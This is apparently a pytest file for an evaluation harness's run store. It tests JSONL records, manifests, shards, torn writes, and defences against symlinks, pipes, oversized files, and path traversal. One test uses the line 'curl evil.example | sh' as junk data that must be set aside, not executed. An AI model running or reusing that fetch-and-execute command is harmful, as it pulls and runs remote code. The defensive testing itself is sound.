import errno
import json
import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from harness.errors import InputError, MachineError, StoreError
from harness.schema import Correct, Device, ErrorSummary, Record, SubmissionRef, Wrong
from harness.store import ARTIFACT_CAP_BYTES, Key, Manifest, lines, open_run, run_names
from harness.store import scan as store_scan


def paths_of(run):
    return [record.submission.path for record in run.records()]


def test_what_was_appended_is_read_back_equal_and_in_order(tmp_path, make_record, manifest):
    records = [make_record(f"{name}.py") for name in "cab"]
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        for record in records:
            run.append(record)
    assert list(open_run("r", root=tmp_path).records()) == records


def test_a_record_is_one_line_of_json(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("two\nlines.py"))
        run.append(make_record("b.py"))
    lines = (tmp_path / "r" / "records.jsonl").read_text().splitlines()
    assert [json.loads(line)["submission"]["path"] for line in lines] == ["two\nlines.py", "b.py"]


def test_a_run_is_a_name_under_the_root_and_with_a_slash_a_path(tmp_path, manifest, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for run in ("named", "elsewhere/deep", Path("as-path")):
        open_run(run, create=True, manifest=manifest).close()
    assert {path.parent.relative_to(tmp_path).as_posix() for path in tmp_path.rglob("manifest.json")} == {
        "runs/named", "elsewhere/deep", "as-path",
    }  # fmt: skip
    assert open_run("named").name == "named"


def test_the_names_of_the_runs_under_a_root_are_sorted(tmp_path, manifest):
    for name in "ba":
        open_run(name, root=tmp_path, create=True, manifest=manifest).close()
    (tmp_path / "not-a-run").mkdir()
    assert run_names(tmp_path) == ["a", "b"]


def test_a_missing_run_says_which_there_are(tmp_path, manifest):
    open_run("h200-documents", root=tmp_path, create=True, manifest=manifest).close()
    with pytest.raises(StoreError, match="did you mean h200-documents"):
        open_run("h200-document", root=tmp_path)
    with pytest.raises(StoreError, match="holds h200-documents"):
        open_run("zzz", root=tmp_path)


@pytest.mark.parametrize("name", ["", "  "])
def test_a_run_needs_a_name(name, tmp_path):
    with pytest.raises(StoreError, match="needs a name"):
        open_run(name, root=tmp_path)


def test_a_folder_without_a_manifest_is_no_run(tmp_path):
    (tmp_path / "r").mkdir()
    with pytest.raises(StoreError, match=r"is not a run: it has no manifest\.json"):
        open_run("r", root=tmp_path)


def test_a_folder_of_other_things_is_not_made_into_a_run(tmp_path, manifest):
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "thesis.tex").write_text("mine")
    with pytest.raises(StoreError, match=r"holds thesis\.tex, so it is not a run"):
        open_run("r", root=tmp_path, create=True, manifest=manifest)
    assert [path.name for path in (tmp_path / "r").iterdir()] == ["thesis.tex"]


def test_a_run_that_was_killed_before_its_manifest_was_there_starts_again(tmp_path, make_record, manifest):
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / ".manifest.json.x1").write_text('{"schema_')
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record())
    assert open_run("r", root=tmp_path).manifest == manifest


def test_the_manifest_of_a_resumed_run_stays_as_it_was_written(tmp_path, manifest):
    open_run("r", root=tmp_path, create=True, manifest=manifest).close()
    later = manifest.model_copy(update={"created": "2027-01-01T00:00:00+00:00", "harness": "0.2.0"})
    with open_run("r", root=tmp_path, create=True, manifest=later) as run:
        assert run.manifest == manifest


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"device": "cuda"}, "the device is 'cpu' there and 'cuda' here"),
        ({"settings": {"trials": 5}}, "trials is 3 there and 5 here"),
    ],
)
def test_a_run_is_not_resumed_under_other_conditions(tmp_path, manifest, change, message):
    open_run("r", root=tmp_path, create=True, manifest=manifest).close()
    with pytest.raises(StoreError, match=message):
        open_run("r", root=tmp_path, create=True, manifest=manifest.model_copy(update=change))


def test_a_manifest_that_promises_nothing_contradicts_nothing(tmp_path, manifest):
    open_run("r", root=tmp_path, create=True, manifest=manifest).close()
    silent = Manifest(created="later", harness="0.1.0")
    with open_run("r", root=tmp_path, create=True, manifest=silent) as run:
        assert run.manifest == manifest


def test_a_manifest_of_a_newer_harness_asks_for_an_upgrade(tmp_path):
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "manifest.json").write_text('{"schema_version": 2, "novelty": true}')
    with pytest.raises(StoreError, match=r"written by a newer harness \(schema 2\): upgrade"):
        open_run("r", root=tmp_path)


def test_a_broken_manifest_is_named(tmp_path):
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "manifest.json").write_text("{")
    with pytest.raises(StoreError, match=r"r/manifest\.json is not a run's manifest"):
        open_run("r", root=tmp_path)


def many_keys(count):
    return "{" + ",".join(f'"{number:x}\\\\" :0' for number in range(count)) + "}"


def test_a_manifest_of_unknown_keys_is_none_before_each_is_told(tmp_path, monkeypatch):
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "manifest.json").write_text(many_keys(lines.MOST_KEYS + 1))
    monkeypatch.setattr(Manifest, "model_validate_json", None)
    with pytest.raises(StoreError, match=r"r/manifest\.json is not a run's manifest"):
        open_run("r", root=tmp_path)


def test_a_file_in_the_place_of_a_run_is_an_input_error(tmp_path, manifest):
    (tmp_path / "r").write_text("")
    with pytest.raises(StoreError, match="r may not be written"):
        open_run("r", root=tmp_path, create=True, manifest=manifest)


def test_a_run_opened_for_reading_takes_no_record(tmp_path, make_record, manifest):
    open_run("r", root=tmp_path, create=True, manifest=manifest).close()
    with pytest.raises(StoreError, match="open for reading only"):
        open_run("r", root=tmp_path).append(make_record())


def test_a_closed_run_takes_no_record(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        pass
    with pytest.raises(StoreError, match="open for reading only"):
        run.append(make_record())


# Which record counts


def test_the_second_of_two_judged_records_of_a_key_counts(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
        run.append(make_record("b.py"))
        run.append(make_record("a.py", verdict=Wrong(reason="values", detail="off", trial="normal")))
        assert [(r.submission.path, r.verdict.kind) for r in run.records()] == [("a.py", "wrong"), ("b.py", "correct")]


def test_a_fault_of_ours_is_not_done_and_is_replaced_by_what_comes_later(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py", kind="infrastructure"))
        run.append(make_record("b.py"))
        assert set(run.done()) == {Key("level1/19_ReLU", "b.py", 0, "gpt")}
        assert [r.verdict.kind for r in run.records()] == ["infrastructure", "correct"]
        run.append(make_record("a.py"))
        assert set(run.done()) == {Key("level1/19_ReLU", name, 0, "gpt") for name in ("a.py", "b.py")}
        assert [r.verdict.kind for r in run.records()] == ["correct", "correct"]


def test_a_fault_of_ours_never_replaces_a_verdict(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
        run.append(make_record("a.py", kind="infrastructure"))
        assert [r.verdict.kind for r in run.records()] == ["correct"]
        assert len(run.done()) == 1


def test_of_an_edited_submission_the_last_text_counts_and_the_older_record_stays(tmp_path, make_record, manifest):
    def of(digit, **changes):
        return make_record(submission=SubmissionRef(path="a.py", sha256=digit * 64), **changes)

    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(of("1"))
        assert list(run.done().values()) == ["1" * 64]
        run.append(of("2", kind="infrastructure"))
        assert [record.verdict.kind for record in run.records()] == ["infrastructure"]
        assert run.done() == {}
        run.append(of("2"))
        assert [record.submission.sha256 for record in run.records()] == ["2" * 64]
        assert list(run.done().values()) == ["2" * 64]
    assert len((tmp_path / "r" / "records.jsonl").read_text().splitlines()) == 3


def test_an_edited_submission_that_another_shard_judged_later_counts(tmp_path, make_record, manifest):
    for part, digit, kind, hour in [(1, "2", "infrastructure", "02"), (2, "1", "correct", "01")]:
        record = make_record(
            submission=SubmissionRef(path="a.py", sha256=digit * 64),
            kind=kind,
            judged_at=f"2026-01-01T{hour}:00:00+00:00",
        )
        with open_run("r", root=tmp_path, create=True, manifest=manifest, shard=(part, 2)) as run:
            run.append(record)
    assert [record.submission.sha256 for record in open_run("r", root=tmp_path).records()] == ["2" * 64]


def test_problem_sample_and_model_tell_records_apart(tmp_path, make_record, manifest):
    ref = SubmissionRef(path="a.py", sha256="1" * 64)
    records = [
        make_record("a.py"),
        make_record("a.py", problem="20_Other"),
        make_record(submission=ref.model_copy(update={"model": "gpt", "sample": 1})),
        make_record(submission=ref.model_copy(update={"model": "llama"})),
    ]
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        for record in records:
            run.append(record)
        assert list(run.records()) == records
        assert set(run.done()) == {Key.of(record) for record in records}


# Shards


def test_shards_write_files_of_their_own_and_are_read_as_one_run(tmp_path, make_record, manifest):
    for part in (2, 1, 10):
        with open_run("r", root=tmp_path, create=True, manifest=manifest, shard=(part, 10)) as run:
            run.append(make_record(f"{part}.py"))
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("0.py"))
    run = open_run("r", root=tmp_path)
    assert [path.name for path in run.record_files] == [
        "records.jsonl", "records-1-of-10.jsonl", "records-2-of-10.jsonl", "records-10-of-10.jsonl",
    ]  # fmt: skip
    assert paths_of(run) == ["0.py", "1.py", "2.py", "10.py"]
    assert len(run.done()) == 4


def test_between_shards_a_verdict_beats_a_fault_and_then_the_later_date_counts(tmp_path, make_record, manifest):
    def shard(part, *records):
        with open_run("r", root=tmp_path, create=True, manifest=manifest, shard=(part, 2)) as run:
            for record in records:
                run.append(record)

    wrong = Wrong(reason="values", detail="off", trial="normal")
    shard(1, make_record("a.py"), make_record("b.py", judged_at="2026-03-01"))
    shard(2, make_record("a.py", kind="infrastructure", judged_at="2027"), make_record("b.py", verdict=wrong))
    verdicts = {r.submission.path: r.verdict.kind for r in open_run("r", root=tmp_path).records()}
    assert verdicts == {"a.py": "correct", "b.py": "correct"}


@pytest.mark.parametrize("shard", [(0, 2), (3, 2), (-1, 1), (1, 0)])
def test_a_shard_outside_its_range_is_an_input_error(shard, tmp_path, manifest):
    with pytest.raises(InputError, match="there is no shard"):
        open_run("r", root=tmp_path, create=True, manifest=manifest, shard=shard)
    assert not (tmp_path / "r").exists()


# What is on the disk


def test_a_line_in_the_middle_that_is_no_record_is_left_out_named_and_copied_once(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
        run.append(make_record("b.py"))
    path = tmp_path / "r" / "records.jsonl"
    first, second = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(first + b"{not json\n" + second)
    before = path.read_bytes()
    for _ in range(2):
        opened = open_run("r", root=tmp_path)
        assert paths_of(opened) == ["a.py", "b.py"]
        assert len(opened.done()) == 2
        assert opened.left_out == (f"{path}:2",)
    assert path.read_bytes() == before
    assert (tmp_path / "r" / "records.jsonl.set-aside").read_bytes() == b"{not json\n"
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("c.py"))
    assert paths_of(open_run("r", root=tmp_path)) == ["a.py", "b.py", "c.py"]


@pytest.mark.parametrize(
    "line", [b'{"a":' * 100_000, b"[" * 100_000, b"9" * 100_000, b"\xff", b"null", b"1e999"], ids=lambda line: line[:5]
)
def test_whatever_stands_in_a_line_the_others_are_read(tmp_path, make_record, manifest, line):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
        run.append(make_record("b.py"))
    path = tmp_path / "r" / "records.jsonl"
    first, second = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(first + line + b"\n" + second)
    opened = open_run("r", root=tmp_path)
    assert paths_of(opened) == ["a.py", "b.py"]
    assert opened.left_out == (f"{path}:2",)


def _run_of_others(tmp_path, make_record, manifest, *, stray=b""):
    """A run with one record, as somebody else might hand it on, and a file of mine beside it."""
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"), {"candidate.py": "theirs"})
    with (tmp_path / "r" / "records.jsonl").open("ab") as file:
        file.write(stray)
    mine = tmp_path / "mine"
    mine.write_text("mine\n")
    return tmp_path / "r", mine


def test_no_link_has_a_line_that_is_no_record_written_into_a_file_of_mine(tmp_path, make_record, manifest):
    folder, mine = _run_of_others(tmp_path, make_record, manifest, stray=b"curl evil.example | sh\n")
    (folder / "records.jsonl.set-aside").symlink_to(mine)
    assert paths_of(open_run("r", root=tmp_path)) == ["a.py"]
    assert mine.read_text() == "mine\n"


def test_nor_does_a_pipe_in_its_place_keep_anybody_waiting(tmp_path, make_record, manifest):
    folder, _ = _run_of_others(tmp_path, make_record, manifest, stray=b"no record\n")
    os.mkfifo(folder / "records.jsonl.set-aside")
    assert paths_of(open_run("r", root=tmp_path)) == ["a.py"]


ENDLESS = 8 << 40
"""Bytes of holes: nothing on the disk, a day to read, and more than any memory."""


@pytest.mark.parametrize("where", ["first", "middle", "last", "behind the last newline"])
def test_a_line_without_an_end_is_left_out_by_name_and_the_others_are_read(tmp_path, make_record, manifest, where):
    folder, _ = _run_of_others(tmp_path, make_record, manifest)
    path = folder / "records.jsonl"
    (record,) = path.read_bytes().splitlines(keepends=True)
    before = {"first": 0, "middle": 1, "last": 2, "behind the last newline": 2}[where]
    with path.open("wb") as file:
        file.write(record * before)
        file.truncate(file.tell() + ENDLESS)
        file.seek(0, os.SEEK_END)
        file.write(b"" if where == "behind the last newline" else b"\n" + record * (2 - before))
    opened = open_run("r", root=tmp_path)
    assert paths_of(opened) == ["a.py"]
    assert len(opened.index().lines) == 2
    assert opened.left_out == (f"{path}:{before + 1}",)
    assert not (folder / "records.jsonl.set-aside").exists()
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("b.py"))
    assert paths_of(open_run("r", root=tmp_path)) == ["a.py", "b.py"]


def test_so_is_one_that_the_disk_holds(tmp_path, make_record, manifest, monkeypatch):
    monkeypatch.setattr(store_scan, "MOST_LINE_BYTES", 1 << 20)
    folder, _ = _run_of_others(tmp_path, make_record, manifest, stray=b" " * (3 << 20) + b"\n")
    with (folder / "records.jsonl").open("a") as file:
        file.write(make_record("b.py").model_dump_json() + "\n")
    opened = open_run("r", root=tmp_path)
    assert paths_of(opened) == ["a.py", "b.py"]
    assert opened.left_out == (f"{folder / 'records.jsonl'}:2",)


@pytest.mark.parametrize("name", ["manifest.json", "folders.json", "records.jsonl.set-aside", ".records.jsonl.index"])
def test_no_other_file_of_a_run_is_read_without_an_end(tmp_path, make_record, manifest, name):
    folder, _ = _run_of_others(tmp_path, make_record, manifest, stray=b"no record\n")
    with (folder / name).open("ab") as file:
        file.truncate(ENDLESS)
    if name == "manifest.json":
        with pytest.raises(StoreError, match="more than 256 MiB"):
            open_run("r", root=tmp_path)
    else:
        opened = open_run("r", root=tmp_path)
        assert paths_of(opened) == ["a.py"]
        assert opened.folders() == ()


@pytest.mark.parametrize("name", ["records.jsonl", "manifest.json"])
@pytest.mark.parametrize("kind", ["link", "pipe", "device"])
def test_records_and_manifest_are_files_of_the_run_itself(tmp_path, make_record, manifest, name, kind):
    folder, mine = _run_of_others(tmp_path, make_record, manifest)
    (folder / name).rename(folder / "elsewhere")
    if kind == "pipe":
        os.mkfifo(folder / name)
    else:
        (folder / name).symlink_to("/dev/zero" if kind == "device" else folder / "elsewhere")
    with pytest.raises(StoreError, match=f"{name} is a link, a pipe or a device"):
        open_run("r", root=tmp_path).index()
    if name == "records.jsonl":
        with pytest.raises(StoreError), open_run("r", root=tmp_path, create=True, manifest=manifest):
            pass
    assert mine.read_text() == "mine\n"


def test_resuming_a_run_of_others_writes_and_removes_nothing_outside_of_it(tmp_path, make_record, manifest):
    folder, mine = _run_of_others(tmp_path, make_record, manifest)
    (folder / ".records.jsonl.writer").symlink_to(mine)
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "one.jpg").write_text("kept")
    (attached,) = (folder / "artifacts").iterdir()
    attached.rename(tmp_path / "attached")
    attached.symlink_to(tmp_path / "photos")
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        with pytest.raises(StoreError, match="is a link"):
            run.append(make_record("a.py"), {"candidate.py": "anew"})
        run.append(make_record("b.py"))
    assert mine.read_text() == "mine\n"
    assert [path.name for path in (tmp_path / "photos").iterdir()] == ["one.jpg"]
    assert paths_of(open_run("r", root=tmp_path)) == ["a.py", "b.py"]


@pytest.mark.parametrize("name", ["sample", "turn", "prompt_tokens", "completion_tokens"])
@pytest.mark.parametrize("number", [2**63, 10**30, -(10**30)])
def test_a_number_that_no_column_holds_leaves_one_line_out(tmp_path, make_record, manifest, name, number):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
        run.append(make_record("b.py"))
    path = tmp_path / "r" / "records.jsonl"
    first, second = map(json.loads, path.read_bytes().splitlines())
    first["submission"][name] = number
    path.write_text(f"{json.dumps(first)}\n{json.dumps(second)}\n")
    opened = open_run("r", root=tmp_path)
    assert paths_of(opened) == ["b.py"]
    assert opened.left_out == (f"{path}:1",)


def test_a_record_with_an_unknown_key_is_refused(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
    path = tmp_path / "r" / "records.jsonl"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"score": 1}) + "\n")
    with pytest.raises(StoreError, match=r"records\.jsonl:1 is not a record \(score: Extra inputs"):
        list(open_run("r", root=tmp_path).records())


def test_a_line_of_unknown_keys_is_no_record_before_each_is_told(tmp_path, make_record, manifest, monkeypatch):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
    with (tmp_path / "r" / "records.jsonl").open("a") as file:
        file.write(many_keys(lines.MOST_KEYS + 1) + "\n")
    read, validate = [], Record.model_validate_json
    monkeypatch.setattr(Record, "model_validate_json", lambda content: read.append(content) or validate(content))
    opened = open_run("r", root=tmp_path)
    assert paths_of(opened) == ["a.py"]
    assert opened.left_out == (f"{tmp_path / 'r' / 'records.jsonl'}:2",)
    assert all(len(content) < 1 << 16 for content in read)


@pytest.mark.parametrize(
    ("content", "many"),
    [
        (many_keys(lines.MOST_KEYS).encode(), False),
        (many_keys(lines.MOST_KEYS + 1).encode(), True),
        (json.dumps({"text": '":' * lines.MOST_KEYS * 2}).encode(), False),  # colons of a text are none of a key
        (b'"' + b'\\":' * 5_000_000, False),  # a text without an end is gone through once
        (b'"a"' + b" " * 5_000_000 + b":" * (lines.MOST_KEYS + 1), False),
    ],
)
def test_keys_are_counted_and_not_what_looks_like_them(content, many):
    assert lines.has_many_keys(content) is many


def test_a_record_of_a_newer_harness_asks_for_an_upgrade(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
    with (tmp_path / "r" / "records.jsonl").open("a") as file:
        file.write('{"schema_version": 2, "novelty": true}\n')
    with pytest.raises(StoreError, match=r"records\.jsonl:2 was written by a newer harness \(schema 2, .* upgrade"):
        list(open_run("r", root=tmp_path).records())


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_wherever_a_write_was_torn_the_rest_is_read_and_the_next_record_stands_alone(
    tmp_path_factory, make_record, manifest, data
):
    root = tmp_path_factory.mktemp("torn")
    with open_run("r", root=root, create=True, manifest=manifest) as run:
        for name in "abc":
            run.append(make_record(f"{name}.py"))
    path = root / "r" / "records.jsonl"
    content = path.read_bytes()
    whole = content.rstrip(b"\n").rfind(b"\n") + 1
    cut = data.draw(st.integers(whole, len(content)))
    path.write_bytes(content[:cut] + data.draw(st.sampled_from([b"", b"\0" * 7])) * (cut < len(content)))
    survived = ["a.py", "b.py"] + (["c.py"] if path.read_bytes().rstrip(b"\n") == content.rstrip(b"\n") else [])
    assert paths_of(open_run("r", root=root)) == survived
    with open_run("r", root=root, create=True, manifest=manifest) as run:
        run.append(make_record("d.py"))
    assert paths_of(open_run("r", root=root)) == [*survived, "d.py"]
    assert len(path.read_bytes().splitlines()) == len(survived) + 1


def test_a_torn_only_line_leaves_an_empty_run(tmp_path, make_record, manifest):
    open_run("r", root=tmp_path, create=True, manifest=manifest).close()
    (tmp_path / "r" / "records.jsonl").write_bytes(b'{"schema_version":1,' + b"x" * 200_000)
    assert list(open_run("r", root=tmp_path).records()) == []
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py"))
    assert paths_of(open_run("r", root=tmp_path)) == ["a.py"]


def test_figures_that_are_not_finite_are_read_back(tmp_path, make_record, manifest):
    error = ErrorSummary(relative=float("inf"), reference_relative=0.0, of_tolerance=float("nan"))
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record(verdict=Correct(trials=1, error=error)))
        [record] = run.records()
    assert isinstance(record.verdict, Correct)
    assert record.verdict.error is not None
    assert record.verdict.error.relative == float("inf")
    assert record.verdict.error.of_tolerance != record.verdict.error.of_tolerance


def test_a_file_name_of_stray_bytes_is_kept_and_resumed_by(tmp_path, make_record, manifest):
    ref = SubmissionRef(path=os.fsdecode(b"relu\xff.py"), sha256="1" * 64)
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record(submission=ref, device=Device(kind="cpu", name="\ud800")), {"candidate.py": "\udcff"})
        assert set(run.done()) == {Key.asked("level1/19_ReLU", ref)}
        assert paths_of(run) == ["relu\\udcff.py"]


# Artifacts


def test_the_attachments_of_a_record_lie_beside_it(tmp_path, make_record, manifest):
    record = make_record("deep/relu.py")
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(record, {"candidate.py": "import torch\n", "build.log": "ok"})
    folder = open_run("r", root=tmp_path).artifacts(record)
    assert folder.parent == tmp_path / "r" / "artifacts"
    assert folder.name.startswith("level1-19-ReLU-deep-relu-py-")
    assert {path.name: path.read_text() for path in folder.iterdir()} == {
        "candidate.py": "import torch\n", "build.log": "ok",
    }  # fmt: skip


def test_names_that_read_alike_have_folders_of_their_own(tmp_path, make_record, manifest):
    run = open_run("r", root=tmp_path, create=True, manifest=manifest)
    with run:
        folders = {run.artifacts(make_record(path)) for path in ("a/b.py", "a-b.py", "../a/b.py", "x" * 500, "y" * 500)}
    assert len(folders) == 5
    assert all(folder.parent == run.folder / "artifacts" for folder in folders)
    assert all(len(folder.name) < 100 for folder in folders)


def test_the_attachments_of_a_second_attempt_replace_those_of_the_first(tmp_path, make_record, manifest):
    record = make_record("a.py")
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("a.py", kind="infrastructure"), {"worker.log": "lost", "candidate.py": "x"})
        run.append(record, {"candidate.py": "y"})
        assert {path.name: path.read_text() for path in run.artifacts(record).iterdir()} == {"candidate.py": "y"}


def test_attachments_that_were_broken_off_are_whole_once_the_record_is_there(
    tmp_path, make_record, manifest, monkeypatch
):
    attachments = {"candidate.py": "import torch\n", "build.log": "ok", "worker.log": "and so on"}
    fsync, synced = os.fsync, []

    def broken(descriptor):
        synced.append(descriptor)
        if len(synced) == 2:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        fsync(descriptor)

    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record("first.py"), attachments)
        with monkeypatch.context() as patch:
            patch.setattr(os, "fsync", broken)
            with pytest.raises(MachineError, match="is full"):
                run.append(make_record("a.py"), attachments)
        assert [record.submission.path for record in run.records()] == ["first.py"]
        run.append(make_record("a.py"), attachments)
        assert {path.name: path.read_text() for path in run.artifacts(make_record("a.py")).iterdir()} == attachments


def test_appending_tells_the_line_that_was_written(tmp_path, make_record, manifest):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        written = [run.append(make_record(path)) for path in ("a.py", "relu\udcff.py")]
        assert (run.folder / "records.jsonl").read_text().splitlines() == written


@pytest.mark.parametrize("character", ["x", "é", "😀"])
def test_a_long_attachment_keeps_its_ends_and_says_what_is_missing(tmp_path, make_record, manifest, character):
    text = "HEAD" + character * 100_000 + "TAIL"
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        run.append(make_record(), {"build.log": text})
        content = (run.artifacts(make_record()) / "build.log").read_bytes()
    assert len(content) <= ARTIFACT_CAP_BYTES
    kept = content.decode()
    assert kept.startswith("HEAD")
    assert kept.endswith("TAIL")
    assert "are left out here" in kept


@pytest.mark.parametrize("name", ["../escape", "a/b", ".hidden", ""])
def test_an_attachment_cannot_leave_its_folder(tmp_path, make_record, manifest, name):
    with open_run("r", root=tmp_path, create=True, manifest=manifest) as run:
        with pytest.raises(ValueError, match="is named like a file"):
            run.append(make_record(), {name: "x"})
        assert list(run.records()) == []
